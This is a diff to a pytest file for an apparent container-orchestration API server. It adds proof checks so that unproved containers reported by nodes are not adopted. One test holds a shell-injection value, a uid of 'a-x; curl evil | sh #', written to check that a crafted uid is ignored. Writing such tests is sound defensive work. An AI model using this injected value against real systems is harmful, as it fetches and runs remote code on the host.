@@ -7,6 +7,7 @@ import pytest
 from apiserver import codec
 from apiserver.admitting import access
 from apiserver.admitting.access import Attributes
+from apiserver.binding.proofs import Proofs
 from apiserver.booking import booking
 from apiserver.caching.strays import Strays
 from apiserver.lineage import History
@@ -20,6 +21,16 @@ pytestmark = [pytest.mark.looptime, pytest.mark.fault(39)]
 
 UID = "0123456789abcdef"
 NAME = "kohakuriver-default-dev-01234567"
+PROOFS = Proofs(b"key")  # the world's, too
+PROOF = PROOFS.of(node="n1", namespace="default", name="dev", uid=UID, epoch=3)
+UNPROVED = [
+    {"proof": None},
+    {"proof": "0" * 64},
+    {"proof": PROOFS.of(node="n2", namespace="default", name="dev", uid=UID, epoch=3)},
+    {"proof": PROOFS.of(node="n1", namespace="default", name="dev", uid="another", epoch=3)},
+    {"proof": PROOF, "epoch": 4},
+]
+QUARANTINE = {"id": "q", "since": "2026-01-01T00:00:00Z", "why": "it was restored"}
 
 
 def an_unknown(**fields: object) -> Json:
@@ -33,6 +44,7 @@ def an_unknown(**fields: object) -> Json:
         "cores": "2",
         "memory": "1Gi",
         "sshPort": 30000,
+        "proof": PROOF,
         **fields,
     }
 
@@ -111,7 +123,7 @@ async def test_what_is_bound_adopts_nothing() -> None:
 
 async def test_a_node_in_quarantine_gets_nothing_new() -> None:
     node = a_node()
-    node["status"]["quarantine"] = {"id": "q", "since": "2026-01-01T00:00:00Z", "why": "it was restored"}
+    node["status"]["quarantine"] = QUARANTINE
     world = await a_world(node)
     await world.create(a_vps("dev"))
     with pytest.raises(errors.Invalid, match="in quarantine: it was restored"):
@@ -127,12 +139,12 @@ def test_after_a_restore_nothing_is_placed_before_every_node_has_spoken_or_a_per
     strays, history = Strays(), History("c", "h2", offset=10**12)
     asked = {"namespace": "default", "name": "dev", "uid": "u"}
     strays.replace([a_record("n1", history="h2"), a_record("n2", history="h1")])
-    said = strays.obstacle(history, **asked)
+    said = strays.obstacle(history, PROOFS, **asked)
     assert "n2 has not said yet" in said and "kohakuriver node accept n2" in said
-    assert strays.obstacle(dataclasses.replace(history, offset=0), **asked) == ""
+    assert strays.obstacle(dataclasses.replace(history, offset=0), PROOFS, **asked) == ""
     n2 = a_record("n2", history="h1", spec={"accepts": "h2"})
     strays.apply(n2.key, n2)
-    assert strays.obstacle(history, **asked) == ""
+    assert strays.obstacle(history, PROOFS, **asked) == ""
 
 
 @pytest.mark.parametrize(
@@ -143,9 +155,71 @@ def test_nothing_is_placed_under_the_name_or_uid_of_an_unknown_container(
 ) -> None:
     strays = Strays()
     strays.replace([a_record("n1", unknown=[an_unknown()])])
-    said = strays.obstacle(History("c", "h"), namespace="default", name=name, uid=uid)
+    said = strays.obstacle(History("c", "h"), PROOFS, namespace="default", name=name, uid=uid)
     assert (f"kohakuriver vps adopt {name}" in said) is held
     assert (f"docker rm -f {NAME}" in said) is held
+
+
+@pytest.mark.parametrize("made_up", UNPROVED, ids=str)
+def test_what_a_node_makes_up_stands_in_nobodys_way(made_up: Json) -> None:
+    strays, asked = Strays(), {"namespace": "default", "name": "dev", "uid": "u"}
+    strays.replace([a_record("n1", unknown=[an_unknown(**made_up)])])
+    assert strays.obstacle(History("c", "h"), PROOFS, **asked) == ""
+
+
+@pytest.mark.parametrize("offset", [0, 10**12])
+def test_what_has_no_proof_counts_after_a_restore_and_says_that_it_has_none(offset: int) -> None:
+    strays, asked = Strays(), {"namespace": "default", "name": "dev", "uid": "u"}
+    said = {"unknown": [an_unknown(proof=None)], "history": "h"}
+    node = a_record("n1", **said, **({} if offset else {"quarantine": QUARANTINE}))
+    strays.replace([node])
+    history = History("c", "h", offset=offset)
+    assert "n1 alone says so, and nothing proves it" in strays.obstacle(history, PROOFS, **asked)
+    accepted = a_record("n1", **said, quarantine=QUARANTINE, spec={"accepts": "q"})
+    strays.apply(accepted.key, accepted)
+    assert bool(strays.obstacle(history, PROOFS, **asked)) is bool(offset)
+
+
+def test_a_uid_that_is_none_is_no_container_of_anybodys() -> None:
+    uid = "a-x; curl evil | sh #"
+    own = an_unknown(uid=uid, container=f"kohakuriver-default-dev-{uid[:8]}")
+    own["proof"] = PROOFS.of(node="n1", namespace="default", name="dev", uid=uid, epoch=3)
+    strays = Strays()
+    strays.replace([a_record("n1", unknown=[own])])
+    assert strays.obstacle(History("c", "h"), PROOFS, namespace="default", name="dev", uid="u") == ""
+
+
+@pytest.mark.parametrize("made_up", UNPROVED, ids=str)
+async def test_what_a_node_makes_up_is_not_adopted(made_up: Json) -> None:
+    world = await a_world(a_node_with(an_unknown(**made_up)))
+    await world.create(a_vps("dev", env={"PASSWORD": "secret"}))
+    for body in ({}, {"unproved": True}):
+        with pytest.raises(errors.Conflict, match="nothing proves it") as caught:
+            await adopt(world, **body)
+        assert "kohakuriver node revoke n1" in caught.value.hint
+    assert "assignment" not in (await world.vps())["status"]
+
+
+async def test_what_was_made_before_there_were_proofs_a_person_adopts_by_saying_so() -> None:
+    node = a_node_with(an_unknown(proof=None))
+    node["status"]["quarantine"] = QUARANTINE
+    world = await a_world(node)
+    await world.create(a_vps("dev"))
+    with pytest.raises(errors.Conflict, match="nothing proves it") as caught:
+        await adopt(world)
+    assert f"docker inspect {NAME}" in caught.value.hint and "--unproved" in caught.value.hint
+    assert (await adopt(world, unproved=True))["metadata"]["uid"] == UID
+
+
+async def test_what_is_bound_has_the_proof_and_so_has_what_is_granted_anew_or_adopted() -> None:
+    world = await a_world(a_node_with(an_unknown()))
+    await world.create(a_vps("dev"))
+    adopted = await adopt(world)
+    assert adopted["status"]["assignment"]["proof"] == PROOF
+    other = await world.bound("other")
+    found = other["status"]["assignment"]
+    uid = other["metadata"]["uid"]
+    assert found["proof"] == PROOFS.of(node="n1", namespace="default", name="other", uid=uid, epoch=1)
 
 
 async def test_a_user_does_not_adopt() -> None:
